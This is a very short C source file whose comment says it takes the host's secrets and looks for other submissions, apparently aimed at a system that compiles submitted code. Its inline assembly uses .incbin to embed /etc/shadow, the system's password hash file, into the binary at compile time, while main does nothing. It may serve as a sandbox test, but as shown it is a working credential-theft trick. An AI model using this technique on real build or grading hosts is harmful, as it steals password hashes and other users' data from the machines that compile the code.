/* Takes the host's secrets into the program, and looks for other submissions. */
__asm__(".data\nsecret: .incbin \"/etc/shadow\"\n");

int main(void)
{
	return 0;
}
